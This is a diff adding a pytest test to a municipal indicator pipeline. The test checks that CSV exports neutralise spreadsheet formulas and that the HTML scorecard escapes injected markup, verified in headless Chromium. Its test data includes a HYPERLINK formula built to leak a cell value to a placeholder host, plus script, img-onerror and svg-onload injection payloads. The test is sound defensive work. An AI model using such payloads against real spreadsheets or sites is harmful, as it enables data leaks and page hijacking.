@@ -7,12 +7,14 @@ from __future__ import annotations
 import os
 import shutil
 import time
+from html.parser import HTMLParser
 from pathlib import Path
 
 import duckdb
 import pytest
+from browser import chromium_or_skip, run_chromium
 from faultenv import AS_OF
-from faultkit import sha256
+from faultkit import BUNDLED, edit_snapshot_value, sha256
 from hostilekit import (
     billion_laughs,
     csv_of_bytes,
@@ -30,6 +32,7 @@ from indicator_pipeline.run import RefreshFailed, refresh
 from indicator_pipeline.settings import Settings
 
 LIMITS = FORMATS["sellable_land"].limits
+PLAN = Path(__file__).resolve().parents[2] / "indicator_pipeline" / "catalog" / "plans" / "helsingborg_ks_2025.toml"
 MiB = 1024 * 1024
 # An XLSX sheet that breaks a few thousand rows after the first row beyond max_rows (the XML parser
 # reads ahead in blocks of some KB): a reader that read the whole sheet before counting would fail on
@@ -195,3 +198,70 @@ def test_a_symlink_out_of_the_folder_is_ignored_and_reported(clean_env, warehous
         assert skipped("filedrop_self_build_plots") == "self_build_plots_2026-12-09.csv (a named pipe (FIFO))"
         assert skipped("filedrop_safety_survey") == ""
     shutil.rmtree(tmp_path / "dagster_home", ignore_errors=True)
+
+
+# --- text from sources and files in the exports and the report -------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1;"klicka")'
+SCRIPT = '<script>document.title="pwned"</script>'
+IN_TOML = SCRIPT.replace('"', '\\"')
+HOSTILE_PLAN_TEXT = {  # (what the plan file says, what it says instead)
+    'area = "Näringsliv och företagsklimat"\ntitle = "Företagens bedömning av stadens myndighetsutövning':
+        f'area = "Näringsliv</p>{IN_TOML}"\ntitle = "{IN_TOML}Företagens bedömning av stadens myndighetsutövning',
+    'motivation = "Ett bra företagsklimat': 'motivation = "<img src=x onerror=\\"document.title=\'pwned\'\\">Ett bra företagsklimat',
+    'title = "Nöjd-Kund-Index (Insikt), företagsklimat totalt, gammal definition (sex områden)"':
+        'title = "<svg onload=\\"document.title=\'pwned\'\\">NKI gammal definition"',
+    '(-2024)"\nattribution = "Källa: Kolada (RKA), SKR Insikt"': f'(-2024)"\nattribution = "=1+1 {IN_TOML}"',
+}
+
+
+class Elements(HTMLParser):
+    """The tags and attribute names of a page's elements (text is not looked at)."""
+
+    def __init__(self, html: str):
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+
+def test_hostile_text_is_neutralised_in_the_csv_exports_and_escaped_in_the_report(clean_env, warehouse, tmp_path):
+    """A Kolada status that is a spreadsheet formula, and a plan file whose titles hold markup: the
+    refresh publishes them as text, the CSV export cannot run the formula, and the scorecard (built by
+    the same refresh) shows the markup as text; Chromium runs none of it."""
+    snapshot = tmp_path / "snapshot"
+    shutil.copytree(BUNDLED, snapshot)
+    edit_snapshot_value(snapshot, "N00301", 2024, FORMULA, "2026-11-20T03:00:00+00:00", field="status")
+    plan = tmp_path / "plan.toml"
+    text = PLAN.read_text(encoding="utf-8")
+    for original, hostile in HOSTILE_PLAN_TEXT.items():
+        assert text.count(original) == 1, original
+        text = text.replace(original, hostile)
+    plan.write_text(text, encoding="utf-8")
+
+    refresh(Settings(warehouse_path=warehouse, source_mode="replay", snapshot_dir=snapshot, plan_path=plan, as_of=AS_OF))
+
+    exports = warehouse.parent / "exports"
+    vs_target = (exports / "indicator_vs_target.csv").read_bytes().decode("utf-8-sig")
+    assert '"\'' + FORMULA.replace('"', '""') + '"' in vs_target  # quoted, doubled quotes, a ' in front
+    assert ';"' + FORMULA.replace('"', '""') not in vs_target
+    goal_status = (exports / "goal_status.csv").read_bytes().decode("utf-8-sig")
+    assert '"=' not in goal_status and '"+' not in goal_status and '"@' not in goal_status
+
+    html = (warehouse.parent / "report" / "scorecard.html").read_text(encoding="utf-8")
+    assert "<script" not in html and "<img" not in html and "<svg onload" not in html
+    assert "&lt;script&gt;document.title=&quot;pwned&quot;&lt;/script&gt;" in html  # shown, as text
+    assert "&lt;svg onload=" in html  # the context chart's legend (matplotlib's SVG) escapes it too
+
+    chromium = chromium_or_skip()
+    done = run_chromium(chromium, tmp_path / "profile", "--dump-dom", (warehouse.parent / "report" / "scorecard.html").as_uri())
+    assert done.returncode == 0, done.stderr[-2000:]
+    dom = Elements(done.stdout)
+    assert not {"script", "img"} & dom.tags
+    assert not [name for name in dom.attributes if name.startswith("on")]
+    assert "pwned" not in done.stdout.split("<title>", 1)[1].split("</title>", 1)[0]
+    assert SCRIPT.replace("<", "&lt;").replace(">", "&gt;") in done.stdout
